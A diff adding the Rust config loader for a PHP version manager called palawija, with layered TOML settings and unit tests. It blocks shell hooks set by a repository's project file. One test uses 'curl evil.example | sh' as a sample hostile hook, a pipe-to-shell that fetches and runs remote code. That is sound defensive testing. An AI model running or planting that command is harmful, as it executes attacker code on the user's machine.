@@ -0,0 +1,420 @@
+/*!
+ * User configuration (`~/.palawija/config.toml`, `./.palawijarc`)
+ *
+ * Every setting is optional. Values are layered, later layers winning:
+ * the default config file, the project's `.palawijarc` in the current
+ * directory, the file given with `--config`, environment variables, and
+ * finally command-line flags (applied by the commands themselves).
+ *
+ * A value set in a later layer replaces the earlier one. Arrays are
+ * replaced as a whole too, unless every entry starts with `+`: those
+ * entries (without the `+`) are appended to the inherited array instead.
+ *
+ * `[hooks]` runs shell commands, so it is only read from the user's own
+ * files: a `.palawijarc` that sets it, e.g. in a cloned repository, is an
+ * error rather than something palawija would run.
+ *
+ * ```toml
+ * [download]
+ * limit_rate = "2m"
+ * tarball_cache_dir = "/srv/php-tarballs"
+ *
+ * [use]
+ * link_dir = "~/bin"
+ * link_name = "php-palawija"
+ * expose_versioned = true
+ *
+ * [build]
+ * configure_flags = ["+--with-sodium", "+--enable-intl"]
+ * use_ccache = true
+ *
+ * [hooks]
+ * post_use = "sudo systemctl restart php-fpm"
+ *
+ * [project]
+ * php_version = "8.3"
+ * ```
+ */
+
+use std::collections::BTreeMap;
+use std::path::{Path, PathBuf};
+
+use serde::Deserialize;
+
+use crate::download;
+use crate::paths;
+
+/// Environment variable overriding `[download] limit_rate`
+pub const LIMIT_RATE_ENV: &str = "PALAWIJA_LIMIT_RATE";
+
+/// Environment variable overriding `[download] tarball_cache_dir`
+pub const TARBALL_CACHE_DIR_ENV: &str = "PALAWIJA_TARBALL_CACHE_DIR";
+
+/// File name of the per-project config, looked up in the current directory
+pub const PROJECT_FILE: &str = ".palawijarc";
+
+/// Settings read from the config files and environment
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct Config {
+    pub download: DownloadConfig,
+    #[serde(rename = "use")]
+    pub r#use: UseConfig,
+    pub build: BuildConfig,
+    pub hooks: HooksConfig,
+    pub project: ProjectConfig,
+    /// Where each set value came from, keyed by `section.key`
+    #[serde(skip)]
+    origins: BTreeMap<&'static str, String>,
+}
+
+/// The `[download]` section
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct DownloadConfig {
+    /// Bandwidth limit for source downloads in bytes per second
+    #[serde(deserialize_with = "deserialize_rate")]
+    pub limit_rate: Option<u64>,
+    /// Tarball cache shared between users, checked before downloading; may be read-only
+    #[serde(deserialize_with = "deserialize_dir")]
+    pub tarball_cache_dir: Option<PathBuf>,
+}
+
+/// The `[use]` section
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct UseConfig {
+    /// Directory for the php symlink and its toolchain links; a leading `~/` is the home directory
+    #[serde(deserialize_with = "deserialize_dir")]
+    pub link_dir: Option<PathBuf>,
+    /// Keep php8.2-style links for every compiled branch after each use and install
+    pub expose_versioned: Option<bool>,
+    /// Basename of the php symlink, e.g. php-palawija to sit next to a system php
+    #[serde(deserialize_with = "deserialize_link_name")]
+    pub link_name: Option<String>,
+}
+
+/// The `[build]` section
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct BuildConfig {
+    /// Flags passed to configure after palawija's own
+    pub configure_flags: Option<Vec<String>>,
+    /// Compile through ccache whenever it is installed, as with `--ccache`
+    pub use_ccache: Option<bool>,
+}
+
+/// The `[hooks]` section
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct HooksConfig {
+    /// Shell command run after a switch instead of `hooks/post-use`; `$1` and `$2` are the old and new version
+    pub post_use: Option<String>,
+}
+
+/// The `[project]` section, meant for a repository's `.palawijarc`
+#[derive(Debug, Default, Deserialize)]
+#[serde(default, deny_unknown_fields)]
+pub struct ProjectConfig {
+    /// Version used by `install` and `use` when none is given
+    pub php_version: Option<String>,
+}
+
+impl Config {
+    /**
+     * Loads the effective configuration
+     *
+     * The default file and `.palawijarc` are optional, and a malformed one
+     * is reported and ignored so a typo never blocks an install. A file
+     * passed explicitly with `--config` must exist and parse.
+     *
+     * # Arguments
+     * * `explicit` - The `--config` file, layered over the default file
+     *
+     * # Returns
+     * * `Result<Config, String>` - The merged configuration, or why the explicit
+     *   file is unusable or the project file sets hooks
+     */
+    pub fn load(explicit: Option<&Path>) -> Result<Self, String> {
+        let mut config = Config::default();
+
+        let optional_files = [(config_path().ok(), false), (project_path(), true)];
+        for (path, project) in optional_files {
+            let Some(path) = path.filter(|p| p.exists()) else {
+                continue;
+            };
+            match Self::read(&path) {
+                Ok(file) if project => {
+                    file.check_project_layer(&path)?;
+                    config.merge(file, &path.display().to_string());
+                }
+                Ok(file) => config.merge(file, &path.display().to_string()),
+                Err(e) => eprintln!("⚠️  Ignoring invalid config {}: {}", path.display(), e),
+            }
+        }
+
+        if let Some(path) = explicit {
+            let file = Self::read(path).map_err(|e| format!("Could not load config {}: {}", path.display(), e))?;
+            config.merge(file, &format!("{} (--config)", path.display()));
+        }
+
+        if let Ok(raw) = std::env::var(LIMIT_RATE_ENV) {
+            match download::parse_rate(&raw) {
+                Ok(rate) => config.set_limit_rate(rate, LIMIT_RATE_ENV),
+                Err(e) => eprintln!("⚠️  Ignoring {}: {}", LIMIT_RATE_ENV, e),
+            }
+        }
+        if let Some(dir) = std::env::var_os(TARBALL_CACHE_DIR_ENV).filter(|dir| !dir.is_empty()) {
+            config.set_tarball_cache_dir(PathBuf::from(dir), TARBALL_CACHE_DIR_ENV);
+        }
+        Ok(config)
+    }
+
+    /// Parses the contents of a config file
+    pub fn parse(content: &str) -> Result<Self, String> {
+        toml::from_str(content).map_err(|e| e.to_string())
+    }
+
+    fn read(path: &Path) -> Result<Self, String> {
+        std::fs::read_to_string(path)
+            .map_err(|e| e.to_string())
+            .and_then(|content| Self::parse(&content))
+    }
+
+    /// Refuses settings a project's `.palawijarc` mustn't make: anything that runs commands
+    fn check_project_layer(&self, path: &Path) -> Result<(), String> {
+        match &self.hooks.post_use {
+            Some(_) => Err(format!(
+                "❌ {} sets [hooks] post_use, which palawija only reads from your own config\n💡 Remove it there and put it in {} (or a file passed with --config) if you trust it",
+                path.display(),
+                config_path().map(|p| p.display().to_string()).unwrap_or_else(|_| "~/.palawija/config.toml".to_string())
+            )),
+            None => Ok(()),
+        }
+    }
+
+    /// Takes over every value set in `layer`, recording `origin` for it
+    fn merge(&mut self, layer: Config, origin: &str) {
+        if let Some(rate) = layer.download.limit_rate {
+            self.set_limit_rate(rate, origin);
+        }
+        if let Some(dir) = layer.download.tarball_cache_dir {
+            self.set_tarball_cache_dir(dir, origin);
+        }
+        if let Some(dir) = layer.r#use.link_dir {
+            self.r#use.link_dir = Some(dir);
+            self.origins.insert("use.link_dir", origin.to_string());
+        }
+        if let Some(name) = layer.r#use.link_name {
+            self.r#use.link_name = Some(name);
+            self.origins.insert("use.link_name", origin.to_string());
+        }
+        if let Some(expose) = layer.r#use.expose_versioned {
+            self.r#use.expose_versioned = Some(expose);
+            self.origins.insert("use.expose_versioned", origin.to_string());
+        }
+        if let Some(flags) = layer.build.configure_flags {
+            let (flags, appended) = merge_array(self.build.configure_flags.take(), flags);
+            self.build.configure_flags = Some(flags);
+            let origin = match appended {
+                true => format!("{} + {}", self.origin("build.configure_flags"), origin),
+                false => origin.to_string(),
+            };
+            self.origins.insert("build.configure_flags", origin);
+        }
+        if let Some(use_ccache) = layer.build.use_ccache {
+            self.build.use_ccache = Some(use_ccache);
+            self.origins.insert("build.use_ccache", origin.to_string());
+        }
+        if let Some(command) = layer.hooks.post_use {
+            self.hooks.post_use = Some(command);
+            self.origins.insert("hooks.post_use", origin.to_string());
+        }
+        if let Some(version) = layer.project.php_version {
+            self.project.php_version = Some(version);
+            self.origins.insert("project.php_version", origin.to_string());
+        }
+    }
+
+    fn set_limit_rate(&mut self, rate: u64, origin: &str) {
+        self.download.limit_rate = Some(rate);
+        self.origins.insert("download.limit_rate", origin.to_string());
+    }
+
+    fn set_tarball_cache_dir(&mut self, dir: PathBuf, origin: &str) {
+        self.download.tarball_cache_dir = Some(dir);
+        self.origins.insert("download.tarball_cache_dir", origin.to_string());
+    }
+
+    /// Prints the effective configuration, noting where each value came from
+    pub fn dump(&self) {
+        println!("# Effective palawija configuration");
+        println!("# Precedence: flags > environment > --config file > ./{} > {}", PROJECT_FILE, config_path()
+            .map(|p| p.display().to_string())
+            .unwrap_or_else(|_| "~/.palawija/config.toml".to_string()));
+        println!();
+        println!("[download]");
+        match self.download.limit_rate {
+            Some(rate) => println!("limit_rate = \"{}\"  # from {}", rate, self.origin("download.limit_rate")),
+            None => println!("# limit_rate is not set (downloads are unlimited)"),
+        }
+        match &self.download.tarball_cache_dir {
+            Some(dir) => println!("tarball_cache_dir = \"{}\"  # from {}", dir.display(), self.origin("download.tarball_cache_dir")),
+            None => println!("# tarball_cache_dir is not set (no shared tarball cache)"),
+        }
+        println!();
+        println!("[use]");
+        match &self.r#use.link_dir {
+            Some(dir) => println!("link_dir = \"{}\"  # from {}", dir.display(), self.origin("use.link_dir")),
+            None => println!("# link_dir is not set (links go to {})", paths::DEFAULT_LINK_DIR),
+        }
+        match &self.r#use.link_name {
+            Some(name) => println!("link_name = \"{}\"  # from {}", name, self.origin("use.link_name")),
+            None => println!("# link_name is not set (the symlink is called {})", paths::DEFAULT_LINK_NAME),
+        }
+        match self.r#use.expose_versioned {
+            Some(expose) => println!("expose_versioned = {}  # from {}", expose, self.origin("use.expose_versioned")),
+            None => println!("# expose_versioned is not set (versioned links only with --expose-versioned or palawija relink)"),
+        }
+        println!();
+        println!("[build]");
+        match &self.build.configure_flags {
+            Some(flags) => println!("configure_flags = {:?}  # from {}", flags, self.origin("build.configure_flags")),
+            None => println!("# configure_flags is not set (only palawija's default flags are used)"),
+        }
+        match self.build.use_ccache {
+            Some(use_ccache) => println!("use_ccache = {}  # from {}", use_ccache, self.origin("build.use_ccache")),
+            None => println!("# use_ccache is not set (ccache only with --ccache)"),
+        }
+        println!();
+        println!("[hooks]");
+        match &self.hooks.post_use {
+            Some(command) => println!("post_use = {:?}  # from {}", command, self.origin("hooks.post_use")),
+            None => println!("# post_use is not set (hooks/post-use runs after a switch, if it exists)"),
+        }
+        println!();
+        println!("[project]");
+        match &self.project.php_version {
+            Some(version) => println!("php_version = \"{}\"  # from {}", version, self.origin("project.php_version")),
+            None => println!("# php_version is not set (install and use ask for a version)"),
+        }
+    }
+
+    /// Where the value of `key` (`section.key`) came from, or "default"
+    pub fn origin(&self, key: &str) -> &str {
+        self.origins.get(key).map(String::as_str).unwrap_or("default")
+    }
+}
+
+/// Location of the default config file
+pub fn config_path() -> Result<PathBuf, Box<dyn std::error::Error>> {
+    Ok(paths::install_root()?.join("config.toml"))
+}
+
+/// Location of the project config in the current directory
+pub fn project_path() -> Option<PathBuf> {
+    std::env::current_dir().ok().map(|dir| dir.join(PROJECT_FILE))
+}
+
+/**
+ * Merges an array from a later layer into the inherited one
+ *
+ * # Returns
+ * * `(Vec<String>, bool)` - The merged array, and whether `layer` was appended rather than replacing
+ */
+fn merge_array(inherited: Option<Vec<String>>, layer: Vec<String>) -> (Vec<String>, bool) {
+    if layer.is_empty() || !layer.iter().all(|entry| entry.starts_with('+')) {
+        return (layer, false);
+    }
+    let mut merged = inherited.unwrap_or_default();
+    merged.extend(layer.into_iter().map(|entry| entry[1..].to_string()));
+    (merged, true)
+}
+
+fn deserialize_rate<'de, D>(deserializer: D) -> Result<Option<u64>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let raw = String::deserialize(deserializer)?;
+    download::parse_rate(&raw).map(Some).map_err(serde::de::Error::custom)
+}
+
+fn deserialize_dir<'de, D>(deserializer: D) -> Result<Option<PathBuf>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let raw = String::deserialize(deserializer)?;
+    match raw.strip_prefix("~/") {
+        Some(rest) => paths::palawija_home().map(|home| Some(home.join(rest))).map_err(serde::de::Error::custom),
+        None => Ok(Some(PathBuf::from(raw))),
+    }
+}
+
+fn deserialize_link_name<'de, D>(deserializer: D) -> Result<Option<String>, D::Error>
+where
+    D: serde::Deserializer<'de>,
+{
+    let raw = String::deserialize(deserializer)?;
+    paths::parse_link_name(&raw).map(Some).map_err(serde::de::Error::custom)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn download_rate_is_read() {
+        let config = Config::parse("[download]\nlimit_rate = \"500k\"\n").unwrap();
+        assert_eq!(config.download.limit_rate, Some(500 * 1024));
+        assert_eq!(Config::parse("").unwrap().download.limit_rate, None);
+        assert!(Config::parse("[download]\nlimit_rate = \"fast\"\n").is_err());
+        assert!(Config::parse("[download]\nlimit = \"1m\"\n").is_err());
+    }
+
+    #[test]
+    fn link_dir_is_read() {
+        let config = Config::parse("[use]\nlink_dir = \"/opt/bin\"\n").unwrap();
+        assert_eq!(config.r#use.link_dir, Some(PathBuf::from("/opt/bin")));
+        assert_eq!(Config::parse("").unwrap().r#use.link_dir, None);
+        let config = Config::parse("[use]\nlink_name = \"php-palawija\"\n").unwrap();
+        assert_eq!(config.r#use.link_name.as_deref(), Some("php-palawija"));
+        assert!(Config::parse("[use]\nlink_name = \"bin/php\"\n").is_err());
+        assert_eq!(Config::parse("[use]\nexpose_versioned = true\n").unwrap().r#use.expose_versioned, Some(true));
+    }
+
+    #[test]
+    fn later_layers_win_and_are_recorded() {
+        let mut config = Config::default();
+        config.merge(Config::parse("[download]\nlimit_rate = \"1m\"\n").unwrap(), "default file");
+        config.merge(Config::parse("").unwrap(), "--config file");
+        assert_eq!(config.download.limit_rate, Some(1024 * 1024));
+        assert_eq!(config.origin("download.limit_rate"), "default file");
+
+        config.set_limit_rate(2048, LIMIT_RATE_ENV);
+        assert_eq!(config.download.limit_rate, Some(2048));
+        assert_eq!(config.origin("download.limit_rate"), LIMIT_RATE_ENV);
+    }
+
+    #[test]
+    fn project_arrays_replace_unless_prefixed() {
+        let mut config = Config::default();
+        config.merge(Config::parse("[build]\nconfigure_flags = [\"--with-gmp\"]\n").unwrap(), "global");
+        config.merge(Config::parse("[build]\nconfigure_flags = [\"+--enable-intl\"]\n").unwrap(), "project");
+        assert_eq!(config.build.configure_flags, Some(vec!["--with-gmp".to_string(), "--enable-intl".to_string()]));
+        assert_eq!(config.origin("build.configure_flags"), "global + project");
+
+        config.merge(Config::parse("[build]\nconfigure_flags = [\"--with-sodium\"]\n[project]\nphp_version = \"8.3\"\n").unwrap(), "project");
+        assert_eq!(config.build.configure_flags, Some(vec!["--with-sodium".to_string()]));
+        assert_eq!(config.origin("build.configure_flags"), "project");
+        assert_eq!(config.project.php_version.as_deref(), Some("8.3"));
+    }
+
+    #[test]
+    fn project_files_cannot_set_hooks() {
+        let path = Path::new("/tmp/repo/.palawijarc");
+        let hooked = Config::parse("[hooks]\npost_use = \"curl evil.example | sh\"\n").unwrap();
+        let error = hooked.check_project_layer(path).unwrap_err();
+        assert!(error.contains("/tmp/repo/.palawijarc sets [hooks] post_use"));
+        assert!(Config::parse("[project]\nphp_version = \"8.3\"\n").unwrap().check_project_layer(path).is_ok());
+    }
+}